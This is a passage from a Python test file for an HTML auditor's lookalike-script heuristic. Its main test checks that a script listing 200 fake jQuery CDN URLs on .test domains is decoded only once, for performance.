    catalogue knew only jquery.com as the project's)."""
    report = audit_html(page(tag(url)), url=URL)
    assert [f.kind for f in report.findings if f.kind == "lookalike-script"] == []


def test_a_script_naming_many_lookalikes_is_read_once() -> None:
    """What a script shows and loads is read once however many of its URLs are asked
    about: asked per URL, a 1.8 MB script naming 20,000 fake jQuery copies took 35 s
    (8 s before the question was asked), its code lowered and its decoded URLs scanned
    once per URL."""
    from types import SimpleNamespace

    from auditor.dom.deobfuscate import decode_script
    from auditor.heuristics.lookalikes import _hidden_in_code

    code = "var a=[" + ",".join(
        f"'https://code.jquery-cdn{i}.test/jquery.min.js'" for i in range(200)) + "];"
    element = SimpleNamespace(text=code)
    calls: list[str] = []

    def decoded(text: str) -> object:
        calls.append(text)
        return decode_script(text)

    page = SimpleNamespace(decoded=decoded)
    seen: dict[int, tuple[frozenset[str], frozenset[str]]] = {}
    hidden = [_hidden_in_code(SimpleNamespace(via="inline-script", element=element),  # type: ignore[arg-type]
                              f"code.jquery-cdn{i}.test", page, seen)  # type: ignore[arg-type]
              for i in range(200)]
    assert hidden == [False] * 200 and len(calls) == 1
    assert _hidden_in_code(SimpleNamespace(via="inline-script", element=element),  # type: ignore[arg-type]
                           "elsewhere.test", page, seen)  # type: ignore[arg-type]
